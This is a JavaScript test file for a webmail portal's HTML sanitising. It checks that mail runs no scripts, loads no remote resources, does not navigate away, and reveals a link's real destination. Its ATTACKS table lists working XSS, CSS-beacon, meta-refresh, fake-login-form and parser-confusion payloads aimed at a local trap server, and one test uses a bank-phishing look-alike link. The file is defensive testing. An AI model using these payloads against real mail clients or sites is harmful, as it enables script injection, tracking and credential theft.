// HTML mail that tries: nothing in it runs, nothing is fetched, nothing navigates; links say where they go.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { expectSoon } from './support/expect.mjs';
import { htmlMail } from './support/mails.mjs';
import { openPortal, stack, useStack } from './support/scene.mjs';

const FRIDA = 'frida@demo.example';
let trap;  // a server that must never be asked
let asked = [];

// Each names what it tries; `@trap@` is the address of the server above. What runs sets window.top.pwned or asks the trap.
const ATTACKS = {
  'script elements': '<script>top.pwned=1;fetch("@trap@/script")</script><script src="@trap@/script.js"></script><noscript><img src="@trap@/noscript"></noscript>',
  'event handlers': '<img src="x" onerror="top.pwned=1;new Image().src=\'@trap@/onerror\'"><body onload="top.pwned=1"><div onpointerenter="top.pwned=1" style="width:900px;height:900px">x</div><details open ontoggle="top.pwned=1">d</details>',
  'remote images': '<img src="@trap@/img.png"><img srcset="@trap@/set.png 1x, @trap@/set2.png 2x"><picture><source srcset="@trap@/source.png"><img alt=""></picture><input type="image" src="@trap@/input.png"><table background="@trap@/table.png"><tr><td background="@trap@/td.png">x</td></tr></table><video poster="@trap@/poster.png" src="@trap@/video"></video><audio src="@trap@/audio" autoplay></audio>',
  'style sheets': '<link rel="stylesheet" href="@trap@/link.css"><link rel="preload" as="image" href="@trap@/preload.png"><link rel="dns-prefetch" href="@trap@"><link rel="prefetch" href="@trap@/prefetch"><style>@import url("@trap@/import.css"); body{background:url(@trap@/bg.png)} @font-face{font-family:f;src:url(@trap@/font.woff)} p{font-family:f} li::marker{content:url(@trap@/marker.png)}</style><p style="background-image:url(\'@trap@/inline.png\')">styled</p><p style="background:\\75\\72\\6c(@trap@/escaped.png)">escaped</p><p style="width:expression(top.pwned=1)">e</p>',
  'overlays over the page': '<div style="position:fixed;inset:0;z-index:2147483647;background:white">Sign in again</div><p style="position:absolute;top:-500px">up</p>',
  'meta refresh and base': '<meta http-equiv="refresh" content="0;url=@trap@/refresh"><base href="@trap@/base/"><img src="relative.png"><a href="relative">relative</a>',
  'forms': '<form action="@trap@/form" method="post"><input name="password" type="password" autofocus><button>Send</button></form><form id="f" action="javascript:top.pwned=1"></form><button form="f" formaction="@trap@/formaction">b</button>',
  'svg and math': '<svg onload="top.pwned=1" xmlns="http://www.w3.org/2000/svg"><script>top.pwned=1</script><image href="@trap@/svg.png"/><use href="@trap@/use.svg#a"/><foreignObject><iframe src="@trap@/foreign"></iframe></foreignObject><animate onbegin="top.pwned=1" attributeName="x" dur="1s"/></svg><math><mtext><img src="x" onerror="top.pwned=1"></mtext></math>',
  'frames and objects': '<iframe src="@trap@/iframe"></iframe><iframe srcdoc="<script>top.pwned=1</script>"></iframe><object data="@trap@/object"></object><embed src="@trap@/embed"><frameset><frame src="@trap@/frame"></frameset><portal src="@trap@/portal"></portal>',
  'script and data links': '<a href="javascript:top.pwned=1">javascript</a> <a href=" jAvAsCrIpT:top.pwned=1">case</a> <a href="java&#10;script:top.pwned=1">newline</a> <a href="data:text/html,<script>top.pwned=1</script>">data</a> <a href="vbscript:x">vb</a> <a href="@trap@/link" target="_top" ping="@trap@/ping">plain</a> <area href="javascript:top.pwned=1">',
  'parser tricks': '<!--><script>top.pwned=1</script>--><title><img src="x" onerror="top.pwned=1"></title></title><svg><style><img src="x" onerror="top.pwned=1"></style></svg><noembed><img src="@trap@/noembed"></noembed><xmp><img src="x" onerror="top.pwned=1"></xmp><template><img src="@trap@/template"></template><plaintext><script>top.pwned=1</script>',
};

before(async () => {
  trap = createServer((request, response) => {
    asked.push(request.url);
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('top.pwned=1');
  });
  await new Promise((resolve) => trap.listen(0, '127.0.0.1', resolve));
});
after(() => trap?.close());
useStack();

const trapUrl = () => `http://127.0.0.1:${trap.address().port}`;

// Opens the message, walks over it with the pointer, clicks and types, and gives what the network saw.
async function provoke(subject) {
  const { view, portal } = await openPortal(FRIDA);
  await portal.openMessage(new RegExp(subject));
  await expectSoon('the frame has its document', async () => (await portal.bodyText()).includes('END OF MAIL'));
  const address = view.page.url();
  const box = await portal.frame.boundingBox();
  for (let y = 10; y < Math.min(box.height, 400); y += 30) await view.page.mouse.move(box.x + 40, box.y + y);
  for (let y = 10; y < Math.min(box.height, 300); y += 40) await view.page.mouse.click(box.x + 30, box.y + y);
  await view.page.keyboard.press('Tab');
  await view.page.keyboard.press('Enter');
  await view.page.waitForTimeout(1200);
  return { view, portal, address };
}

for (const [name, html] of Object.entries(ATTACKS)) {
  test(`mail with ${name} runs nothing, fetches nothing and goes nowhere`, async () => {
    asked = [];
    const subject = `Attack by ${name}`;
    await stack.deliver(htmlMail({ subject, html: `<html><body><p>Hello.</p>${name === 'parser tricks' ? '<p>END OF MAIL</p>' : ''}${html.replaceAll('@trap@', trapUrl())}<p>END OF MAIL</p></body></html>` }));
    const { view, address } = await provoke(subject);
    try {
      assert.deepEqual(asked, [], 'the outside was never asked');
      assert.equal(await view.page.evaluate(() => window.pwned), undefined, 'nothing ran');
      const strangers = view.requests.map(({ url }) => url).filter((url) => !url.startsWith(stack.url) && !/^(data|blob|about):/.test(url));
      assert.deepEqual(strangers, [], 'every request went to the node');
      assert.equal(view.page.url(), address, 'the page did not move');
      const serious = view.faults.filter((fault) => !/sandbox|Content Security Policy|Content-Security-Policy/i.test(fault));
      assert.deepEqual(serious, []);
    } finally {
      await view.context.close();
    }
  });
}

test('a link shows where it goes and opens nothing', async () => {
  const subject = 'Check your account';
  await stack.deliver(htmlMail({ subject, from: 'Northbank <service@northbank.example>', html: '<html><body><p><a href="http://northbank-verify.example/login">https://www.northbank.example/account</a></p><p>END OF MAIL</p></body></html>' }));
  const { view, portal } = await provoke(subject);
  try {
    await portal.role('group', /names another site than/).first().waitFor({ state: 'attached' });
    await expectSoon('the true target is shown', async () => {
      const place = await portal.placeInBody('[data-href]');
      await view.page.mouse.click(place.x + place.width / 2, place.y + place.height / 2);
      return view.page.getByText('http://northbank-verify.example/login').first().isVisible();
    }, { everyMs: 400 });
    assert.equal(view.requests.filter(({ url }) => url.includes('northbank')).length, 0);
  } finally {
    await view.context.close();
  }
});

test('images load only after the reader asked for them', async () => {
  asked = [];
  const subject = 'A letter with one picture';
  await stack.deliver(htmlMail({ subject, html: `<html><body><p>Look:</p><img alt="pier" width="20" height="20" src="${trapUrl()}/pier.png"><p>END OF MAIL</p></body></html>` }));
  const { view, portal } = await provoke(subject);
  try {
    assert.deepEqual(asked, []);
    await portal.role('group', /1 image is not loaded/).first().waitFor({ state: 'attached' });
    await portal.click(portal.role('button', 'Show images').first());
    await expectSoon('the picture was asked for', () => asked.length > 0);
  } finally {
    await view.context.close();
  }
});
